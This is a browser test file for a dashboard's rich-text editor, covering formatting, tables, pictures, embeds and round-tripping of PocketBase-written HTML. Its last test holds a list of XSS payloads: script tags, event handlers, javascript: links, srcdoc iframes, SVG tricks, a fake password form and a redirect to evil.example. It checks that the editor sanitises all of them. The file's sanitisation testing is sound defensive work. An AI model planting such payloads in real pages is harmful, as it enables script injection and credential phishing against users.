/** Rich text: what the bar makes of it, what is stored, and that nothing that others wrote is lost. */

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import {
  animationsEnd,
  assertAccessible,
  eventually,
  newPage,
  openBrowser,
  see,
  seeFocus,
  signIn,
} from "./support/browser.js";
import { startServer } from "./support/server.js";

/** @type {import("./support/server.js").TestServer} */
let server;
/** @type {import("playwright-core").Browser} */
let browser;

const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);

before(async () => {
  [server, browser] = await Promise.all([startServer(), openBrowser()]);
  await server.client.collections.create({
    name: "pages",
    type: "base",
    fields: [
      { name: "title", type: "text", presentable: true },
      { name: "body", type: "editor" },
      { name: "photos", type: "file", maxSelect: 5, mimeTypes: ["image/png"] },
    ],
  });
  await server.client.collections.create({
    name: "notes",
    type: "base",
    fields: [
      { name: "title", type: "text", presentable: true },
      { name: "body", type: "editor", convertURLs: true },
      { name: "picture", type: "file", maxSelect: 1 },
    ],
  });
  await server.client.collections.create({
    name: "shown",
    type: "view",
    viewQuery: "SELECT id, title, body FROM pages",
  });
});
after(() => Promise.all([browser?.close(), server?.stop()]));

/** @param {string} collection @param {Record<string, string>} record @param {import("playwright-core").BrowserContextOptions} [options] */
async function open(collection, record, options) {
  const { id } = await server.client.collection(collection).create(record);
  const page = await newPage(browser, options);
  await signIn(page, `${server.dashboard}#/collections/${collection}?record=${id}`);
  const panel = page.getByRole("dialog", { name: record.title });
  const text = panel.getByRole("textbox", { name: "body" });
  /** @param {string} label */
  const tool = (label) => panel.getByRole("toolbar", { name: "Formatting" }).getByRole("button", { name: label });
  /** @param {string} button @param {string | RegExp} item */
  const choose = async (button, item) => {
    await tool(button).click();
    await page.getByRole("menu").getByText(item, { exact: true }).click();
    await page.getByRole("menu").waitFor({ state: "detached" });
    await seeFocus(text);
  };
  const save = async () => {
    await panel.getByRole("button", { name: "Save", exact: true }).click();
    await see(panel.getByText("Saved", { exact: true }));
    return await stored();
  };
  const stored = async () => await server.client.collection(collection).getOne(id);
  return { id, page, panel, text, tool, choose, save, stored };
}

test("a text is written with the bar, saved, and opened again unchanged", async () => {
  const { id, page, panel, text, tool, choose, save } = await open("pages", { title: "Made here", body: "" });
  await text.click();
  await seeFocus(text);
  await page.keyboard.type("Welcome");
  await see(text.getByText("Welcome"));
  await choose("Alignment", "Centre");
  await page.keyboard.press("Shift+Home");
  await tool("Text colour").click();
  await page.getByRole("button", { name: "Red", exact: true }).click();
  await seeFocus(text);
  await tool("Background colour").click();
  await page.getByRole("button", { name: "Light yellow" }).click();
  await seeFocus(text);
  // On a slow machine, the editor may put its selection back after the key.
  await eventually(async () => {
    await page.keyboard.press("End");
    await animationsEnd(page);
    assert.equal(await page.evaluate(() => getSelection()?.isCollapsed), true, "nothing is selected");
  });
  await page.keyboard.press("Enter");
  await see(text.getByText("Welcome"));
  await choose("Alignment", "Left");

  await tool("Table").click();
  await page.getByLabel("Rows").fill("2");
  await page.getByLabel("Columns").fill("2");
  await page.getByRole("button", { name: "Insert table" }).click();
  await seeFocus(text);
  for (const cell of ["Tea", "Price", "Mint"]) {
    await page.keyboard.type(cell);
    await page.keyboard.press("Tab");
  }
  await page.keyboard.type("4");
  await choose("Table", "Insert row below");
  await choose("Table", "Insert column after");
  await page.keyboard.press("Tab");
  await choose("Table", "Delete column");
  await page.keyboard.press("Control+End");

  await tool("Picture").click();
  await page.getByLabel("Address").fill("example.com/cup.png");
  await see(page.getByText("Pictures of other sites are not shown in the dashboard"));
  await page.getByLabel("Alternative text").fill("A cup");
  await page.getByLabel("Width").fill("120");
  await page.getByRole("button", { name: "Insert", exact: true }).click();
  await seeFocus(text);
  await see(text.getByText("Picture: A cup"));
  await see(panel.getByText("Pictures of other sites are not shown here"));

  await page.keyboard.press("ArrowRight");
  await tool("Picture").click();
  await page
    .getByLabel("Choose a picture or drop it here")
    .setInputFiles({ name: "leaf.png", mimeType: "image/png", buffer: PNG });
  await page.getByLabel("Alternative text").fill("A leaf");
  await page.getByRole("button", { name: "Insert", exact: true }).click();
  // The policy of the page lets all of it through.
  const leaf = text.getByRole("img", { name: "A leaf" });
  await eventually(async () => assert.equal(await leaf.evaluate((image) => Reflect.get(image, "naturalWidth")), 1));
  const look = await text.getByText("Welcome").evaluate((span) => {
    const { color, backgroundColor, textAlign } = getComputedStyle(span);
    return { color, backgroundColor, textAlign };
  });
  assert.deepEqual(look, { color: "rgb(179, 38, 30)", backgroundColor: "rgb(253, 242, 169)", textAlign: "center" });
  // Nothing is sent before it is saved.
  await see(panel.getByText("2 unsaved changes"));
  await see(panel.getByRole("group", { name: "photos" }).getByText("leaf.png"));
  await assertAccessible(page);

  const made = await save();
  assert.match(made.photos[0], /^leaf_/);
  const address = new URL(server.client.files.getURL(made, made.photos[0])).pathname;
  assert.match(made.body, new RegExp(`<img src="https?://[^"/]+${address}" alt="A leaf">`));
  assert.doesNotMatch(made.body, /blob:|src=""/);
  assert.match(
    made.body,
    /^<p style="text-align: center;"><span style="color: rgb\(179, 38, 30\); background-color: rgb\(253, 242, 169\);">Welcome<\/span><\/p>/,
  );
  assert.match(
    made.body,
    /<table border="1" style="border-collapse: collapse; width: 100%;"><tbody><tr><th>Tea<\/th><th>Price<\/th><\/tr><tr><td>Mint<\/td><td>4<\/td><\/tr><tr><td><\/td><td><\/td><\/tr><\/tbody><\/table>/,
  );
  assert.match(made.body, /<img src="https:\/\/example\.com\/cup\.png" alt="A cup" width="120">/);

  await page.reload();
  await see(text.getByRole("img", { name: "A leaf" }));
  await text.getByText("Welcome").click();
  await page.keyboard.press("End");
  await page.keyboard.type("!");
  await page.keyboard.press("Backspace");
  await see(panel.getByText("No changes"));
  assert.equal((await server.client.collection("pages").getOne(id)).body, made.body);
});

/** As PocketBase's editor writes it. */
const FROM_POCKETBASE = {
  alignment: '<p style="text-align: center;">a</p><p style="text-align: right; padding-left: 40px;">b</p>',
  colours:
    '<p><span style="color: rgb(224, 62, 45);">a<strong>b</strong></span><span style="background-color: rgb(241, 196, 15);">c</span></p>',
  underline:
    '<p><span style="text-decoration: underline;">a</span> <s>b</s> <sup>c</sup><sub>d</sub> <code>e</code></p>',
  table:
    '<table style="border-collapse: collapse; width: 100%; height: 44.8px;" border="1"><caption>Prices</caption><colgroup><col style="width: 30%;"><col style="width: 70%;"></colgroup><thead><tr style="height: 22.4px;"><th style="height: 22.4px;" scope="col">a</th><th scope="col">b</th></tr></thead><tbody><tr><td style="width: 30%; background-color: rgb(191, 237, 210);">1</td><td>&nbsp;</td></tr><tr><td colspan="2">3</td></tr></tbody><tfoot><tr><td>4</td><td>5</td></tr></tfoot></table>',
  images:
    '<p><img style="float: right;" title="T" src="https://example.com/a.png" alt="A" width="300" height="200"><img style="display: block; margin-left: auto; margin-right: auto;" src="data:image/png;base64,iVBORw0KGgo=" alt=""></p>',
  direction: '<div dir="rtl">a</div><p dir="rtl">b</p><div><p>c</p><ul dir="rtl"><li>d</li></ul></div>',
  lists: '<ul><li>a<ul><li>b</li></ul></li></ul><ol style="list-style-type: lower-alpha;" type="a"><li>c</li></ol>',
  code: '<pre class="language-javascript"><code>let a;\n\n  a = 1 &lt; 2;</code></pre>',
  media:
    '<p><iframe src="https://www.youtube.com/embed/abc" width="560" height="314" allowfullscreen="allowfullscreen"></iframe></p><p><video controls="controls" width="300" height="150"><source src="https://example.com/a.mp4" type="video/mp4"></video></p><p><audio controls="" src="/api/files/a/b/c.mp3"></audio></p>',
  links:
    '<p><a title="t" href="https://example.com" target="_blank" rel="noopener">a</a></p><hr><blockquote><p>b</p></blockquote>',
};

test("what PocketBase's editor wrote is edited and stays whole", async () => {
  const written = Object.values(FROM_POCKETBASE);
  const { page, text, save } = await open("pages", { title: "From there", body: `${written.join("")}<p>end</p>` });
  await text.getByText("end", { exact: true }).click();
  await page.keyboard.press("End");
  await page.keyboard.type("ing");
  let { body } = await save();
  body = sorted(body);
  for (const [title, piece] of Object.entries(FROM_POCKETBASE)) {
    const expected = piece.replaceAll(/<span style="text-decoration: underline;">(.*?)<\/span>/g, "<u>$1</u>");
    assert.ok(body.includes(sorted(expected)), `${title}: ${body}`);
  }
  assert.ok(body.endsWith("<p>ending</p>"));
});

test("spans around spans become one for each piece of text", async () => {
  const body = '<p><span style="background-color: #2dc26b;"><span style="color: #fff;">a</span> b</span> end</p>';
  const { page, text, save } = await open("pages", { title: "Nested", body });
  await text.getByText("end").click();
  await page.keyboard.press("End");
  await page.keyboard.type("ing");
  const green = "background-color: rgb(45, 194, 107);";
  assert.equal(
    (await save()).body,
    `<p><span style="${green} color: rgb(255, 255, 255);">a</span><span style="${green}"> b</span> ending</p>`,
  );
});

test("the rest of the bar, each with a way back, by keyboard", async () => {
  const { page, panel, text, tool, choose, save } = await open("notes", { title: "Bar", body: "<p>one</p>" });
  await text.click();
  await page.keyboard.press("Control+a");
  const html = async () => {
    const { body } = await save();
    await text.click();
    await page.keyboard.press("Control+a");
    return body;
  };
  await choose("Kind of paragraph", "Heading 4");
  await choose("Alignment", "Right to left");
  await choose("Other formatting", "Superscript");
  await choose("Other formatting", "Crossed out");
  assert.equal(await html(), '<h4 dir="rtl"><s><sup>one</sup></s></h4>');
  await choose("Other formatting", "Remove formatting");
  assert.equal(await html(), "<p>one</p>");
  await choose("Kind of paragraph", "Code block");
  await choose("Kind of paragraph", "SQL");
  assert.equal(await html(), '<pre class="language-sql"><code>one</code></pre>');

  // From the first button to the last with the arrow keys, and on it with Enter.
  await tool("Kind of paragraph").focus();
  await page.keyboard.press("ArrowLeft");
  await page.keyboard.press("Enter");
  await see(tool("Leave full screen"));
  assert.equal(await panel.getByLabel("title").evaluate((input) => input.closest("[inert]") !== null), true);
  await page.keyboard.press("Escape");
  await see(tool("Full screen"));
  await see(panel.getByLabel("title"));

  await text.click();
  await page.keyboard.press("Control+a");
  await page.keyboard.press("Delete");
  await page.keyboard.press("Backspace");
  await tool("Video or sound").click();
  await page.getByLabel("Address").fill("https://example.com/page");
  await page.getByRole("dialog").getByRole("button", { name: "Save", exact: true }).last().click();
  await see(page.getByText("no video or sound that can be inserted"));
  await page.getByLabel("Address").fill("https://youtu.be/dQw4w9WgXcQ?t=3");
  await page.keyboard.press("Enter");
  await see(text.getByText("Embedded page: www.youtube-nocookie.com"));
  await tool("Undo").click();
  await eventually(async () => assert.doesNotMatch(await text.innerText(), /Embedded/));
  await tool("Redo").click();
  await see(text.getByText("Embedded page"));
  const { body } = await save();
  assert.equal(
    body,
    '<p><iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" width="560" height="315" allowfullscreen=""></iframe></p>',
  );
});

test("a picture is dropped into a new record's text, and its field must keep it", async () => {
  const page = await newPage(browser);
  await signIn(page, `${server.dashboard}#/collections/notes?create=empty`);
  const panel = page.getByRole("dialog", { name: "New in notes" });
  await panel.getByLabel("title").fill("Dropped");
  const text = panel.getByRole("textbox", { name: "body" });
  await text.click();
  await text.evaluate((element, base64) => {
    const bytes = Uint8Array.from(atob(base64), (letter) => letter.charCodeAt(0));
    const data = new DataTransfer();
    data.items.add(new File([bytes], "leaf.png", { type: "image/png" }));
    element.dispatchEvent(new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true }));
  }, PNG.toString("base64"));
  await see(text.locator("img[src]"));
  await panel.getByRole("button", { name: "Remove leaf.png" }).click();
  await panel.getByRole("button", { name: "Create" }).click();
  await see(panel.getByText("A picture of this text is not among the record's files any more."));
  await panel.getByRole("toolbar", { name: "Formatting" }).getByRole("button", { name: "Undo" }).click();
  await eventually(async () => assert.equal(await text.locator("img[src]").count(), 0));

  await panel.getByRole("toolbar").getByRole("button", { name: "Picture" }).click();
  await page
    .getByLabel("Choose a picture or drop it here")
    .setInputFiles({ name: "leaf.png", mimeType: "image/png", buffer: PNG });
  await page.getByRole("button", { name: "Insert", exact: true }).click();
  await panel.getByRole("button", { name: "Create" }).click();
  await see(page.getByRole("dialog", { name: "Dropped" }));
  // It is sent once more when the picture has an address.
  const made = await eventually(async () => {
    const record = await server.client.collection("notes").getFirstListItem('title = "Dropped"');
    assert.doesNotMatch(record.body, /src=""/);
    return record;
  });
  // Addresses of this server are shortened in this field.
  const address = new URL(server.client.files.getURL(made, made.picture)).pathname;
  assert.equal(made.body, `<p><img src="${address}" alt=""></p>`);
  assert.equal((await fetch(server.client.buildURL(address))).status, 200);
});

const EVIL = "https://evil.example";
const HOSTILE = {
  script: "<p>a</p><script>window.wasRun = 1</script>",
  handlers:
    '<p onclick="window.wasRun = 2" onmouseover="window.wasRun = 3">b</p><img src="x" onerror="window.wasRun = 4">',
  links:
    '<p><a href="javascript:window.wasRun=5">c</a><a href="data:text/html,x">c</a><a class="fixed inset-0 z-50" href="/x">c</a></p>',
  overlay:
    '<div style="position: fixed; inset: 0; z-index: 9999; background-color: red; width: 100%; height: 100%;">d</div><p style="margin-top: -900px; background-image: url(https://evil.example/1.png)">d</p>',
  svg: '<p>e</p><svg onload="window.wasRun = 6"><a xlink:href="javascript:1"><text>e</text></a><foreignObject><p onclick="window.wasRun=1">e</p></foreignObject></svg><math><mtext><img src=x onerror="window.wasRun=7"></mtext></math>',
  frames: `<iframe src="${EVIL}/frame"></iframe><iframe srcdoc="<script>parent.wasRun = 8</script>"></iframe><iframe src="javascript:parent.wasRun=9"></iframe><object data="${EVIL}/o"></object><embed src="${EVIL}/e">`,
  media: `<p><video src="${EVIL}/v.mp4" poster="${EVIL}/p.png" autoplay></video><audio src="${EVIL}/a.mp3" autoplay></audio><img src="${EVIL}/i.png"><img src="data:image/svg+xml,%3Csvg/onload=window.wasRun=10%3E"></p>`,
  form: `<form action="${EVIL}"><input name="password"><button>f</button></form><style>* { display: none }</style><link rel="stylesheet" href="${EVIL}/s.css"><base href="${EVIL}"><meta http-equiv="refresh" content="0;url=${EVIL}">`,
  table:
    '<table style="position: absolute; top: 0"><caption><img src=x onerror="window.wasRun = 11"></caption><colgroup><col style="width: 9px; position: fixed"></colgroup><tr><td style="background: url(https://evil.example/2.png)">g</td></tr></table>',
};

test("hostile text stays harmless where it is written and where it is read", async () => {
  const page = await newPage(browser);
  /** @type {string[]} */
  const asked = [];
  page.on("request", (request) => asked.push(request.url()));
  await signIn(page, `${server.dashboard}#/collections/pages`);
  await see(page.getByRole("button", { name: "New record" }));
  const check = async (/** @type {string} */ title, /** @type {import("playwright-core").Locator} */ place) => {
    const found = await place.evaluate((element) => {
      const inside = [...element.querySelectorAll("*")];
      return {
        bad: inside
          .filter((one) =>
            one.matches(
              "script, iframe, svg:not([aria-hidden]), math, object, embed, video, audio, form, style, link, meta, base",
            ),
          )
          .map((one) => one.localName),
        attributes: inside.flatMap((one) =>
          [...one.attributes]
            .filter(
              ({ name, value }) =>
                /^on|srcdoc|formaction/.test(name) || (name !== "title" && /^\s*javascript:/i.test(value)),
            )
            .map(({ name }) => name),
        ),
        left: inside.filter(
          (one) =>
            ["fixed", "absolute"].includes(getComputedStyle(one).position) &&
            one.closest(".ProseMirror-gapcursor") === null,
        ).length,
        wasRun: Reflect.get(window, "wasRun"),
      };
    });
    assert.deepEqual(found, { bad: [], attributes: [], left: 0, wasRun: undefined }, title);
  };
  for (const [title, body] of Object.entries(HOSTILE)) {
    const { id } = await server.client.collection("pages").create({ title, body });
    await page.goto(`${server.dashboard}#/collections/shown?record=${id}`);
    const view = page.getByRole("dialog", { name: title }).locator(".rich-content");
    await see(view);
    await check(title, view);
    await page.goto(`${server.dashboard}#/collections/pages?record=${id}`);
    const panel = page.getByRole("dialog", { name: title });
    // What would lose something in the editor is shown as HTML first.
    const drop = panel.getByRole("button", { name: "Drop these and go on in the editor" });
    await see(drop.or(panel.getByRole("toolbar")));
    const isSource = await drop.isVisible();
    if (isSource) await drop.click();
    await see(panel.getByRole("toolbar"));
    await check(title, panel.locator(".ProseMirror"));
    if (isSource) await panel.getByRole("button", { name: "Undo body" }).click();
    assert.equal((await server.client.collection("pages").getOne(id)).body, body);
  }
  assert.deepEqual(
    asked.filter((address) => address.includes("evil.example")),
    [],
  );
});

/** Attributes in the order of the alphabet. @param {string} html */
function sorted(html) {
  return html.replaceAll(/<(\w+)((?:\s+[\w-]+="[^"]*")+)>/g, (_, tag, attributes) => {
    const list = attributes.match(/[\w-]+="[^"]*"/g).sort();
    return `<${tag} ${list.join(" ")}>`;
  });
}
